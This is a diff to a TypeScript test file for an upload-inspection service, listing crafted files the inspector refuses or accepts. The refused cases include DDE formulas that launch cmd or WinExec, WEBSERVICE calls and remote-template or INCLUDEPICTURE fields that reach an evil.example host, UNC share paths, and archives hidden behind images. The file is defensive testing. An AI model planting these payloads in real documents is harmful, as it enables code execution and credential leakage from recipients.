@@ -2,23 +2,10 @@ import { TextReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';
 import { confinedInspection } from '../setup/inspected';
 import { DOCX_PARTS, docxTyped, docxWith, typesOf, XLSX_PARTS, xlsxWith } from '../setup/office-file';
 import { pdfOf } from '../setup/pdf';
+import { jpgOf, pngOf } from '../setup/picture';
 import { packZip } from '../setup/zip';
 
 const bytes = (text: string) => Buffer.from(text, 'latin1');
-
-function png(width: number, height: number): Buffer {
-  const size = Buffer.alloc(8);
-  size.writeUInt32BE(width, 0);
-  size.writeUInt32BE(height, 4);
-  return Buffer.concat([bytes('\x89PNG\r\n\x1a\n\0\0\0\rIHDR'), size, bytes('\x08\x02\0\0\0')]);
-}
-
-function jpg(width: number, height: number, between = ''): Buffer {
-  const size = Buffer.alloc(4);
-  size.writeUInt16BE(height, 0);
-  size.writeUInt16BE(width, 2);
-  return Buffer.concat([bytes(`\xff\xd8\xff\xe0\0\x04ab${between}\xff\xc2\0\x11\x08`), size, bytes('\x03\xff\xd9')]);
-}
 
 const relations = (type: string, target: string) =>
   `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
@@ -48,11 +35,11 @@ const REFUSED: [string, string, Buffer][] = [
   ['EICAR by the name of a PDF', 'a.pdf', bytes(EICAR)],
   ['EICAR by the name of a DOCX', 'a.docx', bytes(EICAR)],
   ['an archive behind a PDF', 'a.pdf', Buffer.concat([pdfOf(['x']), docxWith()])],
-  ['an archive behind a JPG', 'a.jpg', Buffer.concat([jpg(10, 10), packZip([{ name: 'a.exe', content: 'MZ' }])])],
+  ['an archive behind a JPG', 'a.jpg', Buffer.concat([jpgOf(10, 10), packZip([{ name: 'a.exe', content: 'MZ' }])])],
   [
     'an archive behind a PNG, with a comment',
     'a.png',
-    Buffer.concat([png(10, 10), packZip([{ name: 'a', content: '' }], { comment: bytes('x') })]),
+    Buffer.concat([pngOf(10, 10), packZip([{ name: 'a', content: '' }], { comment: bytes('x') })]),
   ],
   ['a DOCM by the name of a DOCX', 'a.docx', docxWith([{ name: 'word/vbaProject.bin', content: 'x' }])],
   ['a DOCM whose macros have another name', 'a.docx', docxWith([{ name: 'word/vbaData.xml', content: '<a/>' }])],
@@ -181,6 +168,121 @@ const REFUSED: [string, string, Buffer][] = [
     withRelation('mailMergeSource', 'file://evil.example/a.mdb'),
   ],
   ['a DOCX with an add-in', 'a.docx', part('_rels/.rels', internal('webextensiontaskpanes', 'a.xml'))],
+  [
+    'a DOCX with a video of the web in a frame',
+    'a.docx',
+    document('<w:document><wp15:webVideoPr embeddedHtml="x"/></w:document>'),
+  ],
+  ['a drawing with a script', 'a.docx', part('word/media/a.svg', '<svg><script>x</script></svg>')],
+  [
+    'an old drawing that names a picture of another computer',
+    'a.docx',
+    part('word/a.xml', '<v:imagedata src="\\\\evil.example\\a.png"/>'),
+  ],
+  ['the same with a character reference', 'a.docx', part('word/a.vml', '<v:fill src="&#92;&#92;evil.example/a"/>')],
+  [
+    'a DTD behind kilobytes of blanks in a part without an ending',
+    'a.docx',
+    part('word/a', `${' '.repeat(5_000)}${DTD}`),
+  ],
+  ['markup in letters of another code', 'a.docx', part('word/a.xml', bytes('\x4c\x6f\xa7\x94\x93'))],
+  ['a picture that is none', 'a.docx', part('word/media/a.png', 'WScript.Echo(1)')],
+  ['a shortcut to the web named as data', 'a.docx', part('word/a.bin', '[InternetShortcut]\nURL=https://evil.example')],
+  ['an encoded script named as data', 'a.docx', part('word/a.dat', '#@~^AAAA==')],
+  ['a web archive named as data', 'a.docx', part('word/a.bin', 'MIME-Version: 1.0\n')],
+  ['a disk image named as data', 'a.docx', part('word/a.bin', 'vhdxfile')],
+  ['a program of macOS', 'a.docx', part('word/a.bin', bytes('\xfe\xed\xfa\xcf'))],
+  ['an old RAR archive', 'a.docx', part('word/a.bin', 'RE~^')],
+  ...[
+    "cmd|'/c calc'!A0",
+    'cmd|&apos;/c calc&apos;!A0',
+    'cmd&#124;x!A0',
+    "<![CDATA[MSEXCEL|'\\..\\cmd.exe'!A1]]>",
+    'WEBSERVICE("https://evil.example/")',
+    '_xlfn.WEBSERVICE(A1)',
+    '_xlfn.IMAGE("https://evil.example/a.png")',
+    'RTD("a.b",,"c")',
+    '1+CALL("kernel32","WinExec","JFJ","calc",1)',
+    `EXE&#67;("calc")`,
+  ].map((formula): [string, string, Buffer] => [
+    `an XLSX with the formula ${formula}`,
+    'a.xlsx',
+    sheetPart('xl/worksheets/sheet1.xml', `<worksheet><c><f>${formula}</f><v>0</v></c></worksheet>`),
+  ]),
+  [
+    'the same as a name',
+    'a.xlsx',
+    sheetPart('xl/names.xml', `<a><definedName name="x">cmd|'/c calc'!A0</definedName></a>`),
+  ],
+  [
+    'a name that starts by itself',
+    'a.xlsx',
+    sheetPart('xl/names.xml', '<a><definedName name="_xlnm.Auto_Open">A1</definedName></a>'),
+  ],
+  [
+    'a query that is asked when it is opened',
+    'a.xlsx',
+    sheetPart('xl/queryTables/a.xml', '<queryTable refreshOnLoad="1"/>'),
+  ],
+  [
+    'a connection that is asked every minute',
+    'a.xlsx',
+    sheetPart('xl/connections.xml', '<connections><connection interval="1"/></connections>'),
+  ],
+  [
+    'a pivot table that asks a database',
+    'a.xlsx',
+    sheetPart(
+      'xl/pivotCache/a.xml',
+      '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external"/></pivotCacheDefinition>',
+    ),
+  ],
+  ['a dialog sheet', 'a.xlsx', sheetPart('xl/sheets/a.xml', '<dialogsheet/>')],
+  ...[
+    'INCLUDEPICTURE "https://evil.example/a.png" \\d',
+    'INCLUDEPICTURE https://evil.example/a.png',
+    'INCLUDETEXT "file://evil.example/a.docx"',
+    'LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\a.xlsx" "Sheet1!R1C1" \\a',
+    'RD "\\\\\\\\evil.example\\\\a.docx"',
+    'DATABASE \\c "DSN=x"',
+  ].map((code): [string, string, Buffer] => [`a DOCX with the field ${code}`, 'a.docx', field(code)]),
+  [
+    'a DOCX whose field takes its address from another',
+    'a.docx',
+    document(
+      '<w:document><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE </w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>REF a</w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/></w:document>',
+    ),
+  ],
+  [
+    'a DOCX whose field is split by an empty one',
+    'a.docx',
+    document(
+      '<w:document><w:instrText>DD</w:instrText><w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="end"/><w:instrText>EAUTO cmd</w:instrText></w:document>',
+    ),
+  ],
+  [
+    'a DOCX with a picture of the web',
+    'a.docx',
+    withRelation('image', 'https://gialai.gov.vn/a.png', 'word/_rels/document.xml.rels'),
+  ],
+  ...['subDocument', 'video', 'stylesheet', 'footnotes', 'customXml', 'unknown'].map(
+    (type): [string, string, Buffer] => [
+      `a DOCX whose ${type} lies on another computer`,
+      'a.docx',
+      withRelation(type, 'https://evil.example/a', 'word/_rels/document.xml.rels'),
+    ],
+  ),
+  [
+    'the same where it is not said to be outside',
+    'a.docx',
+    part('word/_rels/document.xml.rels', internal('image', 'file://evil.example/a.png')),
+  ],
+  ['a template by a path of the system', 'a.docx', withRelation('attachedTemplate', '\\??\\UNC\\evil.example\\t.dotm')],
+  [
+    'a template by a path with one escape that is none',
+    'a.docx',
+    withRelation('attachedTemplate', 'file:///%5C%5Cevil.example/%zz'),
+  ],
   ['a DOCX whose markup does not end', 'a.docx', part('word/_rels/document.xml.rels', '<Relationships><Relationship>')],
   ['a DOCX that fetches its template', 'a.docx', withRelation('attachedTemplate', 'https://evil.example/t.dotm')],
   ['the same from a share', 'a.docx', withRelation('attachedTemplate', 'file:///\\\\evil.example\\t.dotm')],
@@ -195,17 +297,17 @@ const REFUSED: [string, string, Buffer][] = [
     'a.docx',
     withRelation('frame', '//evil.example/a', 'word/_rels/webSettings.xml.rels'),
   ],
-  ['a PNG of fifty thousand by fifty thousand', 'a.png', png(50_000, 50_000)],
-  ['a JPG of fifty thousand by fifty thousand', 'a.jpg', jpg(50_000, 50_000)],
-  ['a PNG of a line that has no end', 'a.png', png(0x7fffffff, 1)],
+  ['a PNG of fifty thousand by fifty thousand', 'a.png', pngOf(50_000, 50_000)],
+  ['a JPG of fifty thousand by fifty thousand', 'a.jpg', jpgOf(50_000, 50_000)],
+  ['a PNG of a line that has no end', 'a.png', pngOf(0x7fffffff, 1)],
   ['an SVG', 'a.svg', bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
   ['an SVG by the name of a PNG', 'a.png', bytes('<svg xmlns="http://www.w3.org/2000/svg"/>')],
   ['a GIF by the name of a PNG', 'a.png', bytes('GIF89a/*')],
   ['a PNG that is only its head', 'a.png', bytes('\x89PNG\r\n\x1a\n')],
   ['a JPG without a picture', 'a.jpg', bytes('\xff\xd8\xff\xe0')],
-  ['a RAR archive behind a JPG', 'a.jpg', Buffer.concat([jpg(10, 10), bytes('Rar!\x1a\x07\x01\0')])],
-  ['a 7z archive behind a PNG', 'a.png', Buffer.concat([png(10, 10), bytes('7z\xbc\xaf\x27\x1c')])],
-  ['a JPG by the name of a PNG', 'a.png', jpg(10, 10)],
+  ['a RAR archive behind a JPG', 'a.jpg', Buffer.concat([jpgOf(10, 10), bytes('Rar!\x1a\x07\x01\0')])],
+  ['a 7z archive behind a PNG', 'a.png', Buffer.concat([pngOf(10, 10), bytes('7z\xbc\xaf\x27\x1c')])],
+  ['a JPG by the name of a PNG', 'a.png', jpgOf(10, 10)],
   ['a PDF by the name of a JPG', 'a.jpg', pdfOf(['x'])],
   ['an old DOC with a password or macros', 'a.docx', bytes('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1')],
   ['a shortcut', 'a.pdf', bytes('L\0\0\0\x01\x14\x02\0')],
@@ -214,8 +316,8 @@ const REFUSED: [string, string, Buffer][] = [
 
 /** Taken, because refusing would hit honest reports; the file comes back inert (`w08-served-files`). */
 const TAKEN: [string, string, Buffer][] = [
-  ['a JPG whose comment holds a web page', 'a.jpg', jpg(10, 10, '\xff\xfe\0\x1b<script>alert(1)</script>')],
-  ['a scanned A3 page at 600 dots an inch', 'a.jpg', jpg(9_921, 7_016)],
+  ['a JPG whose comment holds a web page', 'a.jpg', jpgOf(10, 10, '\xff\xfe\0\x1b<script>alert(1)</script>')],
+  ['a scanned A3 page at 600 dots an inch', 'a.jpg', jpgOf(9_921, 7_016)],
   [
     'a DOCX with links people click',
     'a.docx',
@@ -249,9 +351,30 @@ const TAKEN: [string, string, Buffer][] = [
     part('word/media/a.svg', '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "a.dtd"><svg/>'),
   ],
   [
-    'a DOCX with a picture of the web',
+    'a DOCX that takes numbers from a workbook on the same disk',
     'a.docx',
-    withRelation('image', 'https://gialai.gov.vn/a.png', 'word/_rels/document.xml.rels'),
+    field(
+      'LINK Excel.Sheet.12 "C:\\\\Bao cao\\\\a.xlsx" "Sheet1!R1C1:R9C4" \\a',
+      'INCLUDEPICTURE "anh.png" \\* MERGEFORMAT',
+    ),
+  ],
+  [
+    'an XLSX with a bar in a text and in the name of a sheet',
+    'a.xlsx',
+    sheetPart(
+      'xl/worksheets/sheet1.xml',
+      `<worksheet><c><f>A1&amp;" | "&amp;'I | II'!B2+SUM(C1:C9)</f></c></worksheet>`,
+    ),
+  ],
+  [
+    'an XLSX that takes numbers from another, which Excel asks about',
+    'a.xlsx',
+    sheetPart('xl/externalLinks/_rels/a.xml.rels', relations('externalLinkPath', 'file:///\\\\may-chu\\a.xlsx')),
+  ],
+  [
+    'an XLSX with a print area',
+    'a.xlsx',
+    sheetPart('xl/names.xml', '<a><definedName name="_xlnm.Print_Area">A1:B2</definedName></a>'),
   ],
   [
     'a DOCX whose main part has another name, as Word on the web writes it',
@@ -261,7 +384,7 @@ const TAKEN: [string, string, Buffer][] = [
       { ...DOCX_PARTS[1]!, name: 'word/document2.xml' },
     ]),
   ],
-  ['a photo with another ending of its kind', 'a.jfif', jpg(10, 10)],
+  ['a photo with another ending of its kind', 'a.jfif', jpgOf(10, 10)],
   ['a PDF behind a byte order mark', 'a.pdf', Buffer.concat([bytes('\xef\xbb\xbf'), pdfOf(['x'])])],
   ['a PDF behind an empty line', 'a.pdf', Buffer.concat([bytes('\r\n'), pdfOf(['x'])])],
   [
